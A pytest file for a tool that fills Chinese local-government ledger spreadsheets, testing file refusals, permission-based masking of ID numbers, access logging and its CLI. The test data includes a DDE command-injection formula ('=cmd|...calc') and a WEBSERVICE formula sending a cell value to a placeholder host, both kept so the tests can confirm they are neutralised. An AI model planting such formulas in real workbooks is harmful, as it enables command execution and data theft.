"""Templates and orders that cannot be, or should not be, done as they stand: a clear word, a stable code, nothing lost."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import staff
import templates
from intake_tables import DISTRICT, OTHER_TOWN, OTHER_VILLAGE, VILLAGE, number, with_sheet_xml
from ledger_people import DAY, NUMBERS, OPERATOR, Ledger, column
from typer.testing import CliRunner

from linli.access.actions import create_role
from linli.intake.ledgers import binding, forms, problems, xlsx_rows
from linli.intake.ledgers.commands import ledger_app
from linli.intake.ledgers.fill import Order, bind, fill
from linli.intake.ledgers.problems import NOTES, LedgerProblem
from linli.intake.ledgers.rows import total
from linli.intake.problems import DamagedFile, EmptyFile, ProtectedFile, TooManyCells, UnreadableFile
from linli.intake.runner import run_file
from linli.kernel.errors import Forbidden, Problem
from linli.kernel.scope import acting
from linli.registry.problems import PurposeMissing

Sql = Callable[..., Sequence[Any]]


def book_of(path: Path, rows: Sequence[Sequence[Any]], *more: str, texts: bool = False) -> Path:
    """A workbook with the same rows on every sheet; `texts`: what looks like a formula is none."""
    book = openpyxl.Workbook()
    assert book.active is not None
    for page in (book.active, *(book.create_sheet(title) for title in more)):
        for row in rows:
            page.append(list(row))
        for cell in (cell for line in page.iter_rows() for cell in line if texts and cell.data_type == "f"):
            cell.data_type = "s"
    book.save(path)
    return path


def refused(kind: type[Problem], path: Path, out: Path, **order: Any) -> Problem:
    """The problem a template ends in; what was at the target stays, and no draft is left."""
    out.write_bytes(b"before")
    with pytest.raises(kind) as caught:
        fill(OPERATOR, path, out, Order(**({"area": DISTRICT, "purpose": "测试"} | order)))
    assert out.read_bytes() == b"before" and [p for p in out.parent.iterdir() if p.name.endswith(".draft")] == []
    for language in ("zh", "en"):
        told = caught.value.text.say(language, caught.value.params)
        assert told and "…" not in told and "{" not in told
    return caught.value


def test_every_note_and_problem_speaks_both_languages_under_a_code_of_its_own() -> None:
    kinds = [p for p in vars(problems).values() if isinstance(p, type) and issubclass(p, LedgerProblem)]
    codes = [kind.code for kind in kinds] + list(NOTES)
    assert len(codes) == len(set(codes)) and all(code.startswith("intake.ledger.") for code in codes)
    for text in [kind.text for kind in kinds] + list(NOTES.values()):
        assert text.zh and text.en and text.zh != text.en


@pytest.mark.usefixtures("people")
def test_files_that_are_no_template_are_refused(tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    (tmp_path / "empty.xlsx").write_bytes(b"")
    (tmp_path / "pdf.xlsx").write_bytes(b"%PDF-1.4 ...")
    (tmp_path / "list.csv").write_text("姓名,身份证号\n")
    # What Excel makes of a workbook with a password: an OLE envelope around the encrypted package (MS-OFFCRYPTO).
    (tmp_path / "locked.xlsx").write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 512
    )
    whole = templates.build("floating", tmp_path).read_bytes()
    (tmp_path / "cut.xlsx").write_bytes(whole[: len(whole) // 2])
    for name, kind in (("empty.xlsx", EmptyFile), ("pdf.xlsx", problems.NotWorkbook), ("locked.xlsx", ProtectedFile),
                       ("cut.xlsx", UnreadableFile), ("list.csv", problems.NotWorkbook)):  # fmt: skip
        refused(kind, tmp_path / name, out)
    far = with_sheet_xml(
        templates.build("floating", tmp_path),
        lambda xml: xml.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
    )
    refused(TooManyCells, far, out)
    broken = with_sheet_xml(templates.build("veterans", tmp_path), lambda xml: xml.replace("</sheetData>", ""))
    refused(DamagedFile, broken, out)


@pytest.mark.usefixtures("people")
def test_a_template_without_a_header_or_with_nothing_the_base_holds_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    refused(problems.NoHeader, book_of(tmp_path / "a.xlsx", [["关于报送材料的通知"], ["请于月底前报送。"]]), out)
    unknown = book_of(tmp_path / "b.xlsx", [["序号", "残疾证号", "残疾类别", "备注"]])
    refused(problems.NothingBound, unknown, out)
    assert bind(unknown).columns["残疾证号"] is None


@pytest.mark.usefixtures("people")
def test_a_condition_that_selects_nobody_is_told_unless_an_empty_ledger_is_wanted(
    ledger: Ledger, tmp_path: Path
) -> None:
    path, out = templates.build("elder_allowance", tmp_path), tmp_path / "out.xlsx"
    refused(problems.Nobody, path, out, where="age>=120")
    refused(problems.ConditionInvalid, path, out, where="身高>=180")
    filled, rows, book = ledger(path, where="age>=120", empty=True)
    assert filled.rows == 0 and rows[5][0] == "合计" and "intake.ledger.sheet_empty" in {n.code for n in filled.notes}
    assert book["高龄津贴"]["B5"].border.left.style == "thin"  # a blank line stands where rows would


@pytest.mark.usefixtures("people")
def test_three_hundred_sheets_are_filled_where_they_are_villages_and_refused_where_nobody_knows(
    ledger: Ledger, tmp_path: Path
) -> None:
    head = [["姓名", "性别", "身份证号"]]
    many = book_of(tmp_path / "many.xlsx", head, *(f"表{n}" for n in range(300)))
    assert refused(problems.TooManySheets, many, tmp_path / "out.xlsx").params["sheets"] == 301
    few = book_of(tmp_path / "few.xlsx", head, "表2", "表3")
    filled, rows, _ = ledger(few)
    assert filled.sheets == ("Sheet",) and len(rows) == 9
    # Sheets named after villages, and none of them of the area chosen: the first is not filled with people from here.
    foreign = book_of(tmp_path / "foreign.xlsx", head, "城里社区", "城一社区")
    assert refused(problems.TooManySheets, foreign, tmp_path / "out.xlsx", area=OTHER_TOWN).params["sheets"] == 3
    named = book_of(tmp_path / "named.xlsx", head, "城里社区", *(f"表{n}" for n in range(300)))
    assert ledger(named)[0].sheets == ("城里社区",)
    given = binding.from_json({"columns": {"姓名": "name"}, "sheets": {"表7": VILLAGE, "表8": OTHER_VILLAGE}})
    filled, _, book = ledger(many, binding=given)
    assert filled.sheets == ("表7", "表8") and book["表8"]["A2"].value == "周百岁" and len(book.sheetnames) == 303


@pytest.mark.usefixtures("people")
def test_macros_links_and_formulas_that_reach_outside_stay_behind(ledger: Ledger, tmp_path: Path) -> None:
    path = book_of(
        tmp_path / "t.xlsx", [["汇总表"], ["姓名", "身份证号", "校验"], [None, None, '=WEBSERVICE("http://x/"&B3)']]
    )
    book = openpyxl.load_workbook(path)
    page = book.active
    assert page is not None
    page["E1"] = "=[1]Sheet1!A1"
    page["F1"] = '=HYPERLINK("http://x/","看")'
    page["G1"] = "=SUM(1,2)"
    page["A1"].hyperlink = "http://example.com/"
    book.save(path)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"macros")
        archive.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")
        archive.writestr("xl/media/image1.png", b"png")
    filled, rows, _ = ledger(path)
    codes = [n.code for n in filled.notes]
    for code in ("macros_left_out", "links_left_out", "drawings_left_out", "formula_left_out"):
        assert f"intake.ledger.{code}" in codes
    assert rows[0][4:7] == [None, None, "=SUM(1,2)"] and {row[2] for row in rows[2:]} == {None}
    with zipfile.ZipFile(tmp_path / "t-filled.xlsx") as archive:
        names, everything = archive.namelist(), b"".join(archive.read(n) for n in archive.namelist())
    assert not [n for n in names if "vba" in n or "externalLink" in n or "media" in n]
    assert b"WEBSERVICE" not in everything and b"example.com" not in everything


def test_no_cell_becomes_a_formula_or_breaks_the_file(ledger: Ledger, tmp_path: Path) -> None:
    evil = ["=cmd|'/c calc'!A0", "+1+1", "-2", "@SUM(A1)", "<b>&\"'", "_x0041_", "a\x0bb"]
    head = ["姓名", "公民身份号码", "工作单位", "所在村居"]
    rows = [
        ["李甲乙丙丁戊己庚"[i : i + 2], number(50 + i), text.replace("\x0b", "_x000B_"), VILLAGE]
        for i, text in enumerate(evil)
    ]
    path = book_of(tmp_path / "evil.xlsx", [head, *rows], texts=True)
    outcome = run_file(OPERATOR, path, area=DISTRICT, source="civil", commit=True, skip_bad=True)
    assert outcome.merged
    template = book_of(tmp_path / "t.xlsx", [["姓名", "身份证号", "工作单位"]])
    _, read, book = ledger(template, area=VILLAGE)
    told = {row[0]: row[2] for row in read[1:]}
    assert told["李甲"] == "'=cmd|'/c calc'!A0" and told["乙丙"] == "'-2" and told["甲乙"] == "'+1+1"
    assert told["丁戊"] == "<b>&\"'"
    assert all(cell.data_type != "f" for line in book["Sheet"].iter_rows() for cell in line)


@pytest.mark.usefixtures("people")
def test_numbers_are_masked_for_whoever_may_not_see_them_and_the_log_tells(
    ledger: Ledger, tmp_path: Path, owner_sql: Sql
) -> None:
    path = templates.build("elder_allowance", tmp_path)
    analyst = staff.actor(staff.staff("analyst", "analyst", DISTRICT))
    filled, rows, _ = ledger(path, actor=analyst, where="80岁以上")
    numbers = set(column(rows, 5, 5, 4))
    assert not numbers & set(NUMBERS.values()) and all("***" in n for n in numbers)
    masked = [n for n in filled.notes if n.code.endswith("column_masked")]
    assert {"公民身份号码", "联系电话"} == {n.params["column"] for n in masked}
    assert all(n.say("zh").endswith("：领取人无权查看完整号码。") for n in masked)
    log = owner_sql("SELECT kind, subject_type, count, purpose FROM access_read_log WHERE actor = %s", [analyst.id])
    assert log == [("export", "ledger", 4, "测试填报")]
    clerk = staff.actor(staff.staff("clerk", "town_clerk", DISTRICT))
    _, rows, _ = ledger(path, actor=clerk, where="80岁以上")
    assert set(column(rows, 5, 5, 4)) <= set(NUMBERS.values())
    log = owner_sql(
        "SELECT kind, subject_type, count FROM access_read_log WHERE actor = %s ORDER BY subject_type", [clerk.id]
    )
    assert log == [("export", "ledger", 4), ("reveal", "ledger.id_number", 4), ("reveal", "ledger.phone", 3)]
    out = tmp_path / "default.xlsx"
    filled = fill(clerk, path, out, Order(DISTRICT, where="80岁以上", on=DAY, purpose="测试"))
    page = openpyxl.load_workbook(out)["高龄津贴"]
    assert {str(page.cell(row, 6).value)[3:6] for row in range(5, 9)} == {"***"}
    masked = [n.say("zh") for n in filled.notes if n.code == "intake.ledger.column_masked"]
    assert masked and all(said.endswith("：没有要求填完整号码。") for said in masked)
    refused(PurposeMissing, path, out, masked=False, purpose=" ")


@pytest.mark.usefixtures("people")
def test_heads_and_members_are_those_the_taker_may_see_and_unmask(
    ledger: Ledger, tmp_path: Path, owner_sql: Sql
) -> None:
    for table, key in (("registry_person_area", "person_id"), ("registry_person", "id")):
        owner_sql(
            f"UPDATE {table} SET area_code = %s WHERE {key} IN (SELECT id FROM registry_person WHERE name = '李大爷')",
            [OTHER_VILLAGE],
        )
    path = book_of(tmp_path / "t.xlsx", [["户主姓名", "户主身份证号", "户号"]])
    given = binding.from_json(
        {"subject": "households", "columns": {"户主姓名": "name", "户主身份证号": "id_number", "户号": "household_no"}}
    )

    def first_of_h2(name: str, elsewhere: list[str], where: str = "") -> Any:
        account = staff.staff(name, area=VILLAGE, unit_area=DISTRICT, permissions=[
            "registry.person.view", "registry.person.reveal", "intake.ledger.fill"])  # fmt: skip
        with acting(staff.OPERATOR):
            role = create_role(staff.OPERATOR, name=f"elsewhere of {name}", permissions=elsewhere)
            staff.appoint(account, role, OTHER_VILLAGE)
        _, rows, _ = ledger(path, actor=staff.actor(account), area=VILLAGE, binding=given, where=where, empty=True)
        return next((row[:2] for row in rows if row[2] == "H2"), None)

    # The fence of the database is the union of all rights: seeing accounts there is not seeing people.
    assert first_of_h2("keeper", ["access.account.view"]) == ["李大娘", NUMBERS["李大娘"]]
    assert first_of_h2("asker", ["access.account.view"], "age>=90") is None
    name, shown = first_of_h2("viewer", ["registry.person.view"])
    assert name == "李大爷" and "***" in shown


@pytest.mark.usefixtures("people")
def test_the_draft_is_nobody_elses_while_it_is_written(
    ledger: Ledger, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    modes = []
    write = xlsx_rows.write

    def watched(skeleton: Path, draft: Path, sheets: Any) -> None:
        modes.append(draft.stat().st_mode & 0o777)
        write(skeleton, draft, sheets)

    monkeypatch.setattr(xlsx_rows, "write", watched)
    ledger(templates.build("floating", tmp_path))
    assert modes == [0o600] and (tmp_path / "floating-filled.xlsx").stat().st_mode & 0o777 == 0o600


@pytest.mark.usefixtures("people")
def test_forms_that_would_not_fit_their_sheet_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "out.xlsx"
    path = book_of(tmp_path / "form.xlsx", [["姓名", None], ["性别", None], ["民族", None], ["身份证号", None]])
    page = openpyxl.load_workbook(path)
    assert page.active is not None
    page.active.row_dimensions[300_000].height = 20
    page.active.merge_cells("C1:D4")
    page.save(path)
    assert refused(problems.TooManyForms, path, out).params["most"] == 3
    monkeypatch.setattr(forms, "MOST_REPEATED", 50)
    assert refused(problems.TooManyForms, path, out).params["most"] == 2


@pytest.mark.usefixtures("people")
def test_an_area_named_by_many_sheets_is_counted_once_and_no_further_than_the_bound(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    counted = []

    def counting(actor: Any, wanted: Any) -> int:
        counted.append(wanted.area)
        return total(actor, wanted)

    monkeypatch.setattr("linli.intake.ledgers.rows.total", counting)
    path = book_of(tmp_path / "t.xlsx", [["姓名", "性别", "身份证号"]], *(f"表{n}" for n in range(5)))
    sheets = {"Sheet": VILLAGE, "表0": VILLAGE, "表1": VILLAGE, "表2": OTHER_VILLAGE}
    given = binding.from_json({"columns": {"姓名": "name"}, "sheets": sheets})
    refused(problems.TooManyRows, path, tmp_path / "out.xlsx", binding=given, most=20)
    assert counted == [VILLAGE]


@pytest.mark.usefixtures("people")
def test_what_the_taker_may_not_see_stays_empty_and_is_told(ledger: Ledger, tmp_path: Path) -> None:
    path = templates.build("disabled", tmp_path)
    rights = ["registry.person.view", "intake.ledger.fill"]
    blind = staff.actor(staff.staff("blind", area=DISTRICT, permissions=rights))
    filled, rows, _ = ledger(path, actor=blind, area=VILLAGE)
    assert ("intake.ledger.column_withheld", "低保对象") in {(n.code, n.params.get("column")) for n in filled.notes}
    assert set(column(rows, 10, 6, filled.rows)) == {None}
    officer = staff.actor(staff.staff("officer", "officer", DISTRICT))
    with pytest.raises(Forbidden):
        fill(officer, path, tmp_path / "no.xlsx", Order(DISTRICT, purpose="测试"))
    villager = staff.actor(staff.staff("villager", "village_clerk", OTHER_VILLAGE, unit_area=DISTRICT))
    with pytest.raises(Forbidden):
        fill(villager, path, tmp_path / "no.xlsx", Order(DISTRICT, purpose="测试"))
    assert not (tmp_path / "no.xlsx").exists()
    assert ledger(path, actor=villager, area=OTHER_VILLAGE)[0].rows == 1


def test_a_binding_that_does_not_hold_is_told_entry_by_entry(tmp_path: Path) -> None:
    wrong = {
        "subject": "dogs",
        "columns": {"姓名": "name", "年龄": "no_such"},
        "sheets": {"表": "37x"},
        "constants": [1],
    }
    with pytest.raises(problems.BindingInvalid) as caught:
        binding.from_json(wrong)
    assert {(f.field, f.code) for f in caught.value.fields} == {
        ("subject", "intake.ledger.unknown_subject"), ("columns.年龄", "intake.ledger.unknown_field"),
        ("sheets.表", "intake.ledger.no_area"), ("constants", "intake.ledger.binding_shape"),
    }  # fmt: skip
    good = binding.from_json({"columns": {"姓名": "name", "身高": "age"}, "sheets": {"没有": None}})
    with pytest.raises(problems.BindingInvalid) as caught:
        binding.fit(good, ["姓 名", "年龄"], ["表"])
    assert {f.code for f in caught.value.fields} == {"intake.ledger.unknown_column", "intake.ledger.unknown_sheet"}


@pytest.mark.usefixtures("people")
def test_the_command_fills_binds_and_fails_with_its_reason(tmp_path: Path) -> None:
    path, out = templates.build("elder_allowance", tmp_path), tmp_path / "out.xlsx"

    def command(*arguments: object) -> tuple[int, str]:
        done = CliRunner().invoke(ledger_app, [str(a) for a in arguments])
        assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
        return done.exit_code, done.stdout

    code, said = command("fill", path, "--area", DISTRICT, "--out", out, "--where", "age>=60 and lives_alone", "--json")
    answer = json.loads(said)
    assert (code, answer["outcome"], answer["rows"]) == (0, "filled", 2) and out.exists()
    assert {n["code"] for n in answer["notes"]} >= {"intake.ledger.rows_replaced"}
    code, said = command("bind", path, "--out", tmp_path / "b.json")
    assert code == 0 and json.loads((tmp_path / "b.json").read_text())["subject"] == "people"
    code, said = command(
        "fill", path, "--area", VILLAGE, "--out", out, "--binding", tmp_path / "b.json", "--lang", "en"
    )
    assert code == 0 and "7 rows" in said
    code, said = command("fill", path, "--area", DISTRICT, "--out", out, "--where", "age>=130", "--json")
    assert (code, json.loads(said)["code"]) == (1, "intake.ledger.nobody")
    assert command("fill", tmp_path / "none.xlsx", "--area", DISTRICT, "--out", out)[0] == 1
    for wrong, why in (
        (("fill", path, "--area", "999999", "--out", out), "没有区划"),
        (("fill", path, "--area", DISTRICT, "--out", out, "--date", "2026-13-01"), "2026-01-31"),
        (("fill", path, "--area", DISTRICT, "--out", tmp_path), "不是可以写的文件"),
        (("fill", tmp_path / "none.xlsx", "--area", DISTRICT, "--out", out), "没有这个文件"),
        (("count", "独居", "--area", "abc"), "没有区划"),
    ):
        code, said = command(*wrong, "--json")
        assert code == 1 and why in json.loads(said)["message"], said
    code, said = command("fill", path, "--area", DISTRICT, "--out", out, "--full", "--json")
    assert (code, json.loads(said)["code"]) == (1, "registry.purpose_missing")
    assert command("bind", path, "--subject", "dogs")[0] == 1
    assert command("fill", path, "--area", DISTRICT, "--out", out, "--as", "nobody", "--json")[0] == 1
